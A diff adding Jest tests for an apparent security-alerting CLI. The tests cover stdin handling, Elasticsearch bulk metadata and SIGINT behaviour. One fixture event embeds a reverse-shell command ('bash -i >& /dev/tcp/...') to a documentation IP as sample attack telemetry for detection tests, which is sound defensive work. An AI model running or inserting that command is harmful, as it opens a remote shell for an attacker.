@@ -1,0 +1,80 @@
+// Standard input is whatever the shell makes of it: a pipe, or a file that can be read twice.
+import { spawnSync } from 'node:child_process';
+import { once } from 'node:events';
+import { openSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, test } from '@jest/globals';
+import type { Alert } from '../../src/alert/index.js';
+import { BIN, ndjson, runCli, SAMPLES, startCli } from '../support/cli.js';
+
+const attack = path.join(SAMPLES, 'attack.ndjson');
+const packed = path.join(SAMPLES, 'auditd-manager.ndjson.gz');
+
+/** All of an alert but where it was found. */
+const content = (line: Readonly<Record<string, unknown>>): unknown => line['id'];
+
+const redirected = (file: string): readonly Record<string, unknown>[] =>
+  ndjson(
+    spawnSync(process.execPath, [BIN, '-', '--json'], {
+      stdio: [openSync(file, 'r'), 'pipe', 'pipe'],
+      encoding: 'utf8',
+    }).stdout,
+  );
+
+describe.each([attack, packed])('%s', (file) => {
+  test('by name, redirected and through a pipe: the same alerts', async () => {
+    const named = ndjson((await runCli([file, '--json'])).stdout).map(content);
+    const piped = await runCli(['-', '--json'], { stdin: readFileSync(file) });
+    expect(named.length).toBeGreaterThan(0);
+    expect(redirected(file).map(content)).toEqual(named);
+    expect(ndjson(piped.stdout).map(content).sort()).toEqual([...named].sort());
+  });
+});
+
+test('a redirected file is called <stdin>, with the line of each event', () => {
+  const [alert] = redirected(attack);
+  const { events } = alert as unknown as Alert;
+  expect(events[0]?.place.file).toBe('<stdin>');
+  expect(events[0]?.place.line).toBeGreaterThan(1);
+});
+
+test('bulk requests: alerts carry index and id, from a file and from a pipe', async () => {
+  const event = {
+    '@timestamp': '2026-01-01T00:00:00Z',
+    event: { category: 'process', type: 'start', action: 'exec' },
+    host: { os: { type: 'linux' } },
+    process: {
+      name: 'setsid',
+      args: ['setsid', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'],
+      parent: { name: 'sh' },
+    },
+  };
+  const action = { create: { _index: 'logs-endpoint.events.process-default', _id: 'x1' } };
+  const stdin = `${JSON.stringify(action)}\n${JSON.stringify(event)}\n${JSON.stringify(event)}\n`;
+  const { stdout } = await runCli(['-', '-o', 'json'], { stdin });
+  const report = JSON.parse(stdout) as {
+    alerts: Alert[];
+    summary: { inputs: { format: string; compression: string }[] };
+  };
+  expect(report.alerts.map(({ events: [first] }) => [first?._index, first?._id])).toEqual([
+    ['logs-endpoint.events.process-default', 'x1'],
+    [null, null],
+  ]);
+  expect(report.summary.inputs[0]).toMatchObject({
+    format: 'elasticsearch-bulk',
+    compression: 'none',
+  });
+});
+
+test('SIGINT before anything came: said, without a summary', async () => {
+  // The warning shows that the program is up; it waits for input a moment later.
+  const child = startCli(['-', '--exclude-rule', 'none']);
+  let stderr = '';
+  child.stderr!.on('data', (chunk: Buffer) => {
+    if (stderr === '') setTimeout(() => child.kill('SIGINT'), 200);
+    stderr += chunk.toString();
+  });
+  const [code] = (await once(child, 'close')) as [number];
+  expect(code).toBe(130);
+  expect(stderr).toMatch(/^warning\[RS130\].*\n\ninterrupted before any event was read\n$/s);
+});
